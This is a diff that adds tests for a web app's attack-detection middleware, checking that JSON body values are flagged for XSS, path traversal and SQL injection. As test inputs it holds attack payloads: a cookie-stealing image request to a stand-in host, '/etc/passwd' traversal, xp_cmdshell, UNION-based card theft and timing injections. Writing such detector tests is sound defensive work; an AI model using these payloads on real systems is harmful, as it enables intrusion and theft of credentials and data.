@@ -77,6 +77,40 @@ def test_attacks_nested_in_a_json_body_are_located():
     assert _suspicious_count(response) == 2
 
 
+def test_an_attack_hidden_behind_json_escapes_is_still_found_in_the_decoded_value():
+    client = TestClient(make_app())
+    # The raw bytes hold no "<script" and no "../": only the decoded strings do.
+    body = '{"name": "Ada", "bio": "\\u003cscript>steal()\\u003c/script>", "file": "\\u002e\\u002e/etc/passwd"}'
+    response = client.post("/profiles", body=body, headers={"Content-Type": "application/json"})
+    [warning] = _warnings(response)
+    assert {(t["kind"], t["location"]) for t in warning["threats"]} == {("xss", "body.bio"),
+                                                                       ("path_traversal", "body.file")}
+
+
+def test_a_clean_json_body_is_not_flagged_even_when_its_keys_would_be():
+    client = TestClient(make_app())
+    # Keys are not scanned: a key that looks like an attack, with clean values, is no finding.
+    response = client.post("/profiles", json={"<script>": "Ada", "drop table": "Lovelace"})
+    assert _warnings(response) == [] and response.status == 200
+
+
+@pytest.mark.parametrize("value, kind", [
+    ("/ETC/PASSWD", "path_traversal"),  # the detectors ignore case, so must any shortcut before them
+    ("%2E%2E%2Fsecret", "path_traversal"),
+    ("1 UNION ALL SELECT card FROM cards", "sql_injection"),
+    ("WAITFOR DELAY '0:0:5'", "sql_injection"),
+    ("x; EXEC xp_cmdshell 'dir'", "sql_injection"),
+    ("pg_sleep(5)", "sql_injection"),
+    ("new Image().src='//evil/?'+DOCUMENT.COOKIE", "xss"),
+    ("\u017felect name from users where 1", "sql_injection"),  # the long s matches s under IGNORECASE
+])
+def test_every_detector_fires_in_a_json_string_value(value, kind):
+    client = TestClient(make_app())
+    response = client.post("/profiles", json={"name": "Ada", "bio": value})
+    [warning] = _warnings(response)
+    assert (kind, "body.bio") in {(t["kind"], t["location"]) for t in warning["threats"]}
+
+
 def test_a_plain_text_body_is_scanned_too():
     client = TestClient(make_app())
     response = client.post("/profiles", body="name=x' OR 1=1 --", headers={"Content-Type": "text/plain"})
